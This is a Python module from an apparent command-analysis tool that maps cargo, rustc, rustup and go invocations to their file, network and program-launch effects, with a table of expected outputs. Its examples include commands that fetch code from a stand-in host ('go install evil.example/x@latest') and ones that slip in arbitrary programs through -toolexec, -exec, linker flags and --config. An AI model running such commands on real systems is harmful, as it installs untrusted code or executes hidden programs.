"""Rust and Go: building runs build scripts and tools of the project, packages come from their registries."""

from __future__ import annotations

from assent.commands.args import mention
from assent.commands.config_files import SHELL_STARTUP, kept
from assent.commands.nested import either
from assent.commands.program import Program, changes, turns_off
from assent.commands.projects import (
    both,
    choices,
    defined,
    files_below,
    makes,
    packs_here,
    perhaps,
    reaches,
    runs,
    sends,
    wipes,
)
from assent.commands.said import if_said
from assent.record import replace
from assent.types import REWRITTEN, Word

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Callable, Iterable, Iterator

    from assent.commands.args import Args
    from assent.commands.program import Fact

    More = Callable[[Args], Iterable[Fact]] | None

CRATES = "https://crates.io/"
CARGO_FILES = (
    *("Cargo.toml", "Cargo.lock", ".cargo/config.toml", ".cargo/config", "rust-toolchain.toml", "rust-toolchain"),
    *("build.rs", "**/Cargo.toml", "**/build.rs"),
)

# --- Rust ----------------------------------------------------------------------------------------------------------


def _proxied(args: Args) -> tuple[Word, ...]:
    """The words without `+nightly`, which chooses an installed toolchain."""
    words = tuple(args.operands)
    return words[1:] if words and (words[0].value or "").startswith("+") else words


def _cargo(args: Args) -> Iterator[Fact]:
    from assent.commands.args import Args

    own = Args(args.call, args.number, args.base, args.name, Program(CARGO_OWN, style="posix"))
    yield from own.take(_proxied(args))
    if own.operands:
        yield from choices(CARGO_TABLE, _unknown)(own)


def _unknown(args: Args) -> Iterator[Fact]:
    """An alias of the project, or a program called `cargo-NAME`."""
    word = args.operands[0]
    yield args.effect("run", f"cargo {word.text}", "program")
    yield args.gap(f"subcommand {word.text} is not known", blind=word.value is None)


CARGO = (
    " -h,--help -v,--verbose -q,--quiet --color= --locked --offline --frozen --message-format= --manifest-path=read"
    " --target-dir=into --profile= -r,--release -j,--jobs= --keep-going -p,--package= --workspace --all --exclude="
    " -F,--features= --all-features --no-default-features --target= --ignore-rust-version --lockfile-path=write"
)
CARGO_OWN = "-h,--help -V,--version --list --explain= -v,--verbose -q,--quiet --color= --locked --offline --frozen"
TARGETS = (
    f"{CARGO} --lib --bins --bin= --examples --example= --tests --test= --benches --bench= --all-targets --timings[=]"
    " --no-run --no-fail-fast --doc --no-deps --open --document-private-items --fix --allow-dirty --allow-staged"
    " --edition --edition-idioms --broken-code --future-incompat-report --build-plan"
)
CARGO_RUNS = Program(TARGETS, "text*", more=runs(*CARGO_FILES))
CARGO_PACKS = Program(
    f"{TARGETS} --no-verify --no-metadata --exclude-lockfile -l,--list --registry= --index=url",
    "text*",
    more=both(runs(*CARGO_FILES), packs_here, makes("target/package/")),
)
CARGO_CHANGES = Program(
    f"{CARGO} --dev --build --optional --no-optional --rename= --path=read --git=url --branch= --tag= --rev="
    " --registry= --dry-run -n --default-features --no-default-features --aggressive --recursive --precise= -w"
    " --breaking",
    "text*",
    does=changes("pkg.install", "Rust packages"),
    more=both(runs(*CARGO_FILES), reaches(CRATES), makes("Cargo.toml", "Cargo.lock")),
)
CARGO_INSTALL = Program(
    f"{TARGETS} --version,--vers= --git=url --branch= --tag= --rev= --path=tree --root=into --registry= --index=url"
    " --force -f --no-track --list --debug --dry-run -n",
    "text*",
    does=changes("pkg.install", "Rust programs"),
    more=reaches(CRATES),
)
CARGO_SENDS = Program(
    f"{CARGO} --registry= --index=url --token= --no-verify --allow-dirty --dry-run -n --version,--vers= --undo"
    " -a,--add= --remove= -l,--list",
    "text*",
    does=changes("pkg.publish", "a Rust package"),
    more=both(runs(*CARGO_FILES), packs_here, sends(CRATES)),
)


@turns_off("--check")
def _formatted(args: Args) -> Iterator[Fact]:
    """`cargo fmt` writes the files of all crates unless it only checks."""
    yield from defined(args, args.name, CARGO_FILES)
    yield from args.file("read", Word(".", "."), deep=True, only="*.rs")
    if not args.has("--check"):
        yield from args.file("write", Word(".", "."), deep=True, only="*.rs")


CARGO_TABLE = {
    **dict.fromkeys(
        "check c build b test t run r bench doc d clippy rustc rustdoc fix nextest llvm-cov miri".split(),
        CARGO_RUNS,
    ),
    "package": CARGO_PACKS,
    **dict.fromkeys(
        "tree metadata pkgid generate-lockfile".split(),
        Program(
            f"{CARGO} --format-version= --no-deps -e,--edges= -i,--invert[=] --prune= --depth= --prefix= --no-dedupe"
            " -d,--duplicates --charset= -f,--format= --filter-platform=",
            "text*",
            more=both(runs(*CARGO_FILES), reaches(CRATES)),
        ),
    ),
    **dict.fromkeys("add remove rm update up fetch vendor".split(), CARGO_CHANGES),
    "install": CARGO_INSTALL,
    "uninstall": Program(f"{CARGO} --bin= --root=", "text*", does=changes("pkg.remove", "Rust programs")),
    **dict.fromkeys("publish yank owner".split(), CARGO_SENDS),
    **dict.fromkeys(
        "login logout".split(),
        Program(
            f"{CARGO} --registry=",
            "text*",
            does=changes("pkg.login", "who is known to the registry", "~/.cargo/credentials.toml"),
        ),
    ),
    **dict.fromkeys(
        "search info".split(), Program(f"{CARGO} --limit= --registry= --index=url", "text*", more=reaches(CRATES))
    ),
    "fmt": Program(f"{CARGO} --check --message-format=", "text*", more=_formatted),
    "clean": Program(f"{CARGO} --doc --dry-run -n", "text*", more=both(wipes("target"), runs(*CARGO_FILES))),
    **dict.fromkeys(
        "new init".split(), Program(f"{CARGO} --bin --lib --name= --edition= --vcs= --registry=", "into?", ".")
    ),
    **dict.fromkeys("locate-project read-manifest verify-project".split(), Program(f"{CARGO} --message-format=")),
    **dict.fromkeys("version help".split(), Program(CARGO, "text*")),
    "audit": Program(
        "-h,--help -q,--quiet --json -D,--deny= --ignore= -f,--file=read", more=reaches("https://github.com/")
    ),
}


RISKY_CODEGEN = ("linker", "link-arg", "save-temps", "incremental", "profile", "llvm-args")


def _rustc(args: Args) -> Iterator[Fact]:
    """Compiles one file; procedural macros and linkers that are named run."""
    from assent.commands.args import Args

    own = Args(args.call, args.number, args.base, args.name, Program(RUSTC, "read?"))
    yield from own.take(_proxied(args))
    for word in own.operands:
        yield from args.act("read", word)
    for word in own.values("-C"):
        if (word.value or "linker").startswith(RISKY_CODEGEN):
            yield args.gap(f"-C {word.text} may start a program or write")
    if any("=" in (word.value or "=") for word in own.values("--emit", "--print")):
        yield args.gap("an output is named in a way we do not read")
    if own.values("--extern"):
        yield args.gap("a library may hold macros that run")
    if own.operands and not own.has("-o", "--out-dir", "--print", "--explain"):
        stem = (own.operands[0].value or "").rpartition("/")[2].removesuffix(".rs").strip("-") or "rust_out"
        yield from args.act("write", Word(stem, stem))


RUSTC = (
    "-h,--help -V,--version -v,--verbose -o=write --out-dir=into --crate-type= --crate-name= --edition= -O -g --cfg="
    " --check-cfg= --target= -L= -l= --extern= -C,--codegen= --test --explain= --print= --emit= -A,--allow="
    " -W,--warn= -D,--deny= -F,--forbid= --cap-lints= --error-format= --color= --json="
)


def _rustfmt(args: Args) -> Iterator[Fact]:
    """Writes each file and the modules it names."""
    from assent.commands.args import Args

    own = Args(args.call, args.number, args.base, args.name, Program(RUSTFMT))
    yield from own.take(_proxied(args))
    for word in own.operands:
        yield from args.act("read", word)
        if not own.has("--check") and own.text("--emit") != "stdout":
            folder = (word.value or "").rpartition("/")[0] or "."
            yield from args.act("write", word)
            yield from map(perhaps, args.file("write", Word(folder, folder), deep=True, only="*.rs", code=REWRITTEN))


RUSTFMT = (
    "-h,--help -V,--version --check --emit= --backup --config= --config-path=read --edition= --color="
    " -l,--files-with-diff -v,--verbose -q,--quiet"
)


def _may_fetch(args: Args) -> Iterator[Fact]:
    """Older versions install the toolchain that the project asks for, if it does: that is looked up."""
    yield mention(args.effect("change", "Rust", "pkg.install"))


RUSTUP_FLAGS = (
    " -h,--help -v,--verbose -q,--quiet --toolchain= --installed --profile= -c,--component= -t,--target= --force"
    " --no-self-update --allow-downgrade --path"
)
RUSTUP_SHOWS = Program(RUSTUP_FLAGS, "text*")
RUSTUP_ADDS = Program(
    RUSTUP_FLAGS, "text*", does=changes("pkg.install", "Rust"), more=reaches("https://static.rust-lang.org/")
)
RUSTUP_DROPS = Program(RUSTUP_FLAGS, "text*", does=changes("pkg.remove", "Rust"))
RUSTUP_SETS = Program(
    f"{RUSTUP_FLAGS} --nonexistent",
    "text*",
    does=changes("pkg.settings", "settings of rustup", "~/.rustup/settings.toml"),
)
RUSTUP_PARTS = Program(
    RUSTUP_FLAGS,
    commands={
        "list": RUSTUP_SHOWS,
        "add": RUSTUP_ADDS,
        "install": RUSTUP_ADDS,
        "remove": RUSTUP_DROPS,
        "uninstall": RUSTUP_DROPS,
        "link": RUSTUP_SETS,
    },
    style="bare",
)
RUSTUP = Program(
    "-h,--help -V,--version -v,--verbose -q,--quiet",
    commands={
        **dict.fromkeys("toolchain target component".split(), RUSTUP_PARTS),
        "show": Program(RUSTUP_FLAGS, "text*", more=_may_fetch),
        "which": Program(RUSTUP_FLAGS, "text*", more=_may_fetch),
        "help": RUSTUP_SHOWS,
        "completions": RUSTUP_SHOWS,
        "doc": Program(f"{RUSTUP_FLAGS} --std --book --reference", "text*", does=(("run", "a browser", "program"),)),
        "check": Program(RUSTUP_FLAGS, more=reaches("https://static.rust-lang.org/")),
        **dict.fromkeys("update install".split(), RUSTUP_ADDS),
        "uninstall": RUSTUP_DROPS,
        **dict.fromkeys("default override set".split(), RUSTUP_SETS),
        "self": Program(
            RUSTUP_FLAGS,
            commands={
                "update": RUSTUP_ADDS,
                "uninstall": Program("-y", does=changes("pkg.remove", "Rust", *SHELL_STARTUP)),
            },
            style="bare",
        ),
    },
    style="bare",
)

# --- Go ------------------------------------------------------------------------------------------------------------

PROXY = "https://proxy.golang.org/"
GO_FILES = ("go.mod", "go.sum", "go.work")
GO_BUILD = (
    " -h -a -n -p= -race -msan -asan -cover -covermode= -coverpkg= -v -work -x -buildmode= -buildvcs[=] -gcflags="
    " -ldflags= -asmflags= -linkshared -mod= -modcacherw -modfile=read -tags= -trimpath -pgo= -C=unknown -json[=]"
    " -u[=] -t -d -insecure -toolexec=run -exec=run -overlay=read"
)
ONE_DASH = "single exact"
"""A flag of go is one word behind one dash or two: `-toolexec` is not `-t oolexec`."""


def _go_doc(args: Args) -> Iterator[Fact]:
    """`go doc ../x.Name`: a package may be a folder."""
    for word in args.operands:
        if word.value is not None and word.value.startswith((".", "/")):
            above, slash, name = word.value.rpartition("/")
            folder = f"{above}{slash}{name if name in ('.', '..') else name.partition('.')[0]}"
            yield from args.file("read", Word(word.text, folder or "."), deep=True, only="*.go")


def _go_env(args: Args) -> Iterator[Fact]:
    """`go env -w` writes the user's settings, which may name programs."""
    if args.has("-w", "-u"):
        yield args.effect("change", "settings of go", "pkg.settings")
        yield from kept(args, "write", "~/.config/go/env")


def _gofmt(args: Args) -> Iterator[Fact]:
    yield from files_below(args, "read", "*.go", "")
    if args.has("-w"):
        yield from files_below(args, "write", "*.go", "", REWRITTEN)


def _go_run(args: Args) -> Iterator[Fact]:
    """`go run FILE…` or a package, which may lie somewhere else."""
    first = args.operands[0] if args.operands else Word(".", ".")
    if first.value is not None and "@" in first.value:
        yield from args.reach(PROXY)
        yield from _hosts(args)
        yield args.effect("run", f"go run {first.value}", "program")
        yield args.gap("what a downloaded program does is not known")
    elif first.value is None or first.value.endswith(".go"):
        yield from args.act("script", first)
    yield from defined(args, "go run", GO_FILES)


def _go_build(args: Args) -> Iterator[Fact]:
    """Runs the toolchain on the project; a linker can be named inside `-ldflags`."""
    for word in args.values("-ldflags", "-gcflags", "-asmflags"):
        if word.value is None or "ext" in word.value or "-linkmode" in word.value:
            yield args.gap("flags for the linker may start a program")
    for word in args.values("-toolexec", "-exec", "-vettool"):
        yield args.gap(f"`{word.text}` is started by it")
    yield from defined(args, args.name, GO_FILES)


def _go_fmt(args: Args) -> Iterator[Fact]:
    for word in args.operands or [Word(".", ".")]:
        if word.value is None:
            yield from args.file("write", word)
        else:
            folder = word.value.removesuffix("...").rstrip("/") or "."
            yield from args.file("write", Word(folder, folder), deep=True, only="*.go", code=REWRITTEN, follows="files")


def _go(options: str, more: More = None, does: tuple[tuple[str, str, str], ...] = ()) -> Program:
    return Program(either(f"{GO_BUILD} {options}"), "text*", style=ONE_DASH, does=does, more=more)


GO_RUNS = _go(
    "-o=write -f= -deps -e -find -export -compiled -m -versions -retracted -test -fix -c= -reuse=read"
    " -vettool=run -printf[=] -shadow[=] -composites[=] -copylocks[=] -unusedresult[=] -diff",
    more=_go_build,
)
GO_TEST = _go(
    "-o=write -c -run= -bench= -benchmem -benchtime= -count= -cpu= -failfast -list= -parallel= -short"
    " -timeout= -vet= -shuffle= -skip= -fuzz= -fuzztime= -fullpath -coverprofile=write -cpuprofile=write"
    " -memprofile=write -blockprofile=write -mutexprofile=write -trace=write -outputdir=into -args -i"
    " -memprofilerate= -blockprofilerate= -mutexprofilefraction= -fuzzminimizetime=",
    more=_go_build,
)
GO_TEST = replace(GO_TEST, style="single")  # what nobody knows is for the tests
GO_MOD_CHANGES = _go(
    "-e -go= -compat= -diff -o=into -r -s -use[=] -require= -replace= -droprequire= -dropreplace= -fmt"
    " -exclude= -dropexclude= -retract= -dropretract= -print -module= -toolchain= -tool[=] -droptool= -dropuse=",
    does=changes("pkg.install", "Go modules"),
    more=both(reaches(PROXY), makes("go.mod", "go.sum")),
)


def _hosts(args: Args) -> Iterator[Fact]:
    """A module is named by the machine it lies on: `evil.example/x@latest`."""
    for word in args.operands:
        host, slash, _ = (word.value or "").partition("/")
        if slash and "." in host.strip("."):
            yield from args.reach(f"https://{host}/", shown=word.text)


GO_GET = replace(GO_MOD_CHANGES, more=both(reaches(PROXY), _hosts, makes("go.mod", "go.sum")))
GO_SHOWS = _go(
    "-m -all -c -cmd -short -src -vendor -e -graph -go -reuse=read",
    more=reaches(PROXY),
)
GO = Program(
    "-h,--help",
    style="single bare",
    commands={
        "version": Program("-m -v -json", "read*", style="single"),
        "env": Program("-json -u -w -changed", "text*", style="single", more=_go_env),
        "help": Program("", "text*"),
        "doc": Program("-all -c -cmd -short -src -u -C=unknown", "text*", style="single", more=_go_doc),
        **dict.fromkeys("build list vet fix".split(), GO_RUNS),
        "test": GO_TEST,
        "run": Program(either(GO_BUILD), "text*", style=f"{ONE_DASH} posix", more=_go_run),
        "generate": Program("-run= -skip= -n -v -x -tags=", "text*", style="single", more=runs(*GO_FILES, "**/*.go")),
        "fmt": Program("-n -x -mod=", "text*", style="single", more=_go_fmt),
        "get": GO_GET,
        "install": _go(
            "",
            does=changes("pkg.install", "Go programs"),
            more=both(reaches(PROXY), _hosts, runs(*GO_FILES)),
        ),
        "clean": _go(
            "-cache -testcache -modcache -fuzzcache -i -r",
            does=changes("pkg.cache", "what go has built"),
        ),
        "mod": Program(
            "-h",
            commands={
                **dict.fromkeys("tidy download vendor init edit".split(), GO_MOD_CHANGES),
                **dict.fromkeys("graph why verify".split(), GO_SHOWS),
            },
            style="bare",
        ),
        "work": Program(
            "-h",
            commands=dict.fromkeys(
                "init use sync edit vendor".split(),
                replace(GO_MOD_CHANGES, does=(), more=both(reaches(PROXY), makes("go.work", "go.work.sum"))),
            ),
            style="bare",
        ),
        "tool": Program("-n", "text*", style="single posix", more=runs(*GO_FILES)),
        "telemetry": Program("", "text?", does=changes("pkg.settings", "settings of go", "~/.config/go/telemetry")),
    },
)

GOLANGCI_FILES = (".golangci.yml", ".golangci.yaml", ".golangci.toml", ".golangci.json")


def _linters(args: Args) -> Iterator[Fact]:
    """Linters that the settings name are loaded to be listed."""
    run = args.effect("run", "linters that settings name", "program")
    yield from runs(config="-c")(args) if args.has("-c") else if_said(args, [run], GOLANGCI_FILES, "custom")


PROGRAMS = {
    "cargo": Program(operands="text*", more=_cargo, style="plain"),
    "rustc": Program(operands="text*", more=_rustc, style="plain"),
    "rustfmt": Program(operands="text*", more=_rustfmt, style="plain"),
    "rustup": RUSTUP,
    "go": GO,
    "gofmt": Program("-d -e -l -s -w -r= -cpuprofile=write", "text*", style="single", more=_gofmt),
    "goimports": Program("-d -e -l -w -v -local= -format-only -srcdir=list", "text*", style="single", more=_gofmt),
    "golangci-lint": Program(
        "-h,--help --version -v,--verbose --color=",
        commands={
            "run": Program(
                "-c,--config= --no-config --timeout= --fix -E,--enable= -D,--disable= --fast --new --new-from-rev="
                " --out-format= --issues-exit-code= --build-tags= --tests -v,--verbose --max-issues-per-linter="
                " --max-same-issues= --enable-only= --default= --concurrency,-j= --allow-parallel-runners --color="
                " --show-stats",
                "text*",
                more=runs(*GO_FILES, *GOLANGCI_FILES, config="-c"),
            ),
            "linters": Program("-v,--verbose -c,--config= --json", more=_linters),
            "version": Program("--format= --json --short --debug"),
            "help": Program("", "text*"),
        },
        style="bare",
    ),
}

EXAMPLES = {
    "go doc -src ../x.Name": "read ../x/**/*.go | maybe run the toolchain of go.mod #settings",
    "golangci-lint linters": "maybe run linters that settings name #program | note golangci-lint linters",
    "golangci-lint linters -c b": "read b | run golangci-lint linters #project",
    "go install evil.example/x@latest": "change Go programs #pkg.install | reach https://proxy.golang.org/"
    " | reach evil.example/x@latest | run go install #project",
    "go get evil.example/x": "change Go modules #pkg.install | reach https://proxy.golang.org/"
    " | reach evil.example/x | write go.mod | write go.sum",
    "cargo --version": "maybe run the toolchain of the project #settings | maybe reach https://static.rust-lang.org/"
    " #settings | note cargo",
    "cargo build --release": "run cargo build #project",
    "cargo +nightly test -- --nocapture": "run cargo test #project",
    "cargo fmt --check": "run cargo fmt #project | read ./**/*.rs",
    "cargo fmt": "run cargo fmt #project | read ./**/*.rs | write ./**/*.rs",
    "cargo tree": "run cargo tree #project | reach https://crates.io/",
    "cargo add serde --features derive": "change Rust packages #pkg.install | run cargo add #project"
    " | reach https://crates.io/ | write Cargo.toml | write Cargo.lock",
    "cargo install ripgrep": "change Rust programs #pkg.install | reach https://crates.io/",
    "cargo publish": "change a Rust package #pkg.publish | run cargo publish #project | read ./** | send"
    " https://crates.io/",
    "cargo search serde": "reach https://crates.io/",
    "cargo clean": "delete target/** | run cargo clean #project",
    "cargo new x": "write x/** | maybe run the toolchain of the project #settings | maybe reach"
    " https://static.rust-lang.org/ #settings",
    "cargo --config 'build.rustc=\"./x\"' build": "run cargo 'build.rustc=\"./x\"' #program"
    ' | maybe read build.rustc="./x" | maybe read ./x | gap cargo: option --config is not known'
    " | gap cargo: subcommand 'build.rustc=\"./x\"' is not known",
    "cargo wobble": "run cargo wobble #program | gap cargo: subcommand wobble is not known",
    "rustc --version": "maybe run the toolchain of the project #settings | maybe reach https://static.rust-lang.org/"
    " #settings | note rustc",
    "rustc a.rs": "read a.rs | write a | maybe run the toolchain of the project #settings | maybe reach"
    " https://static.rust-lang.org/ #settings",
    "rustc -C linker=./x a.rs": "read a.rs | write a | maybe run the toolchain of the project #settings | maybe reach"
    " https://static.rust-lang.org/ #settings | gap rustc: -C linker=./x may start a program or write",
    "rustfmt --check a.rs": "read a.rs | maybe run the toolchain of the project #settings | maybe reach"
    " https://static.rust-lang.org/ #settings",
    "rustfmt a.rs": "read a.rs | write a.rs | maybe write ./**/*.rs #rewritten | maybe run the toolchain of the project"
    " #settings | maybe reach https://static.rust-lang.org/ #settings",
    "rustup show": "maybe change Rust #pkg.install | note rustup show | maybe run the toolchain of the project"
    " #settings | maybe reach https://static.rust-lang.org/ #settings",
    "rustup toolchain list": "note rustup toolchain list | maybe run the toolchain of the project #settings | maybe"
    " reach https://static.rust-lang.org/ #settings",
    "rustup default nightly": "change settings of rustup #pkg.settings | write ~/.rustup/settings.toml",
    "rustup update": "change Rust #pkg.install | reach https://static.rust-lang.org/",
    "go version": "note go version | maybe run the toolchain of go.mod #settings",
    "go env GOPATH": "note go env | maybe run the toolchain of go.mod #settings",
    "go env -w GOFLAGS=-toolexec=x": "change settings of go #pkg.settings | write ~/.config/go/env",
    "go build ./...": "run go build #project",
    "go build -o out .": "write out | run go build #project",
    "go build -ldflags='-extld=./x'": "run go build #project | gap go build: flags for the linker may start a program",
    "go test ./... -run TestX -count=1": "run go test #project",
    "go test -exec 'touch x' ./...": "run touch x #program | run go test #project"
    " | gap go test: `'touch x'` is started by it",
    "go vet ./...": "run go vet #project",
    "go vet -vettool=./x ./...": "run ./x #program | run go vet #project | gap go vet: `./x` is started by it",
    "go build -toolexec=./x": "run ./x #program | run go build #project | gap go build: `./x` is started by it",
    "go list -m all": "run go list #project",
    "go run a.go": "read a.go | run a.go #script | run go run #project",
    "go run x.example/y@latest": "reach https://proxy.golang.org/ | reach x.example/y@latest"
    " | run go run x.example/y@latest #program | run go run #project"
    " | gap go run: what a downloaded program does is not known",
    "go mod tidy": "change Go modules #pkg.install | reach https://proxy.golang.org/ | write go.mod | write go.sum",
    "go generate ./...": "run go generate #project",
    "go fmt ./...": "write ./**/*.go #rewritten | maybe run the toolchain of go.mod #settings",
    "go doc fmt": "note go doc | maybe run the toolchain of go.mod #settings",
    "go tool pprof x": "run go tool #project",
    "gofmt -l .": "read ./**/*.go",
    "gofmt -w src": "read src | read src/**/*.go | write src | write src/**/*.go #rewritten",
    "goimports -w a.go": "read a.go | write a.go",
    "golangci-lint run": "run golangci-lint run #project",
    'go build -toolexec "id x" ./...': "run id x #program | run go build #project"
    ' | gap go build: `"id x"` is started by it',
}
